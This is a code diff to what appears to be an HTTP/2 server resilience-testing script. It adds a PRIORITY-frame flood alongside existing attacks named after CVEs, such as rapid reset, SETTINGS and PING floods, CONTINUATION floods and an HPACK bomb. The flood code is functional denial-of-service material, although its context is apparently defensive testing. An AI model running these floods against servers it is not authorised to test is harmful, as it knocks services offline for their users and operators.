@@ -9,6 +9,7 @@ Attacks (RFC 9113 §10.5 and the CVEs they are named after):
   settings      SETTINGS flood (CVE-2019-9515)
   ping          PING flood (CVE-2019-9512)
   empty_data    empty DATA frames on an open stream (CVE-2019-9518)
+  priority      PRIORITY flood (CVE-2019-9513 family; nghttp2 drops them unread, we count them)
   continuation  endless CONTINUATION frames (CVE-2024-27316 family)
   hpack_bomb    a small block that decodes to a huge header list (RFC 9113 §10.5.1)
   malformed     requests the server must reset, one after another (CVE-2019-9514)
@@ -18,7 +19,7 @@ import sys
 import time
 
 from h2raw import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GoodClient, HEADERS, PING,
-                   RST_STREAM, RawConn, frame, report, request_block, settings)
+                   PRIORITY, RST_STREAM, RawConn, frame, report, request_block, settings)
 import hpack
 import struct
 
@@ -56,6 +57,11 @@ def settings_flood(c):
 
 def ping_flood(c):
     return flood(c, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)))
+
+
+def priority_flood(c):
+    # valid PRIORITY frames on idle odd streams, 5 bytes each
+    return flood(c, lambda i: frame(PRIORITY, 0, 3 + 2 * i, struct.pack(">IB", 0, 15)))
 
 
 def empty_data(c):
@@ -116,7 +122,7 @@ def window(c):
     return 1
 
 
-ATTACKS = {"rapid_reset": rapid_reset, "settings": settings_flood, "ping": ping_flood,
+ATTACKS = {"rapid_reset": rapid_reset, "settings": settings_flood, "ping": ping_flood, "priority": priority_flood,
            "empty_data": empty_data, "continuation": continuation, "hpack_bomb": hpack_bomb,
            "window": window, "malformed": malformed}
 
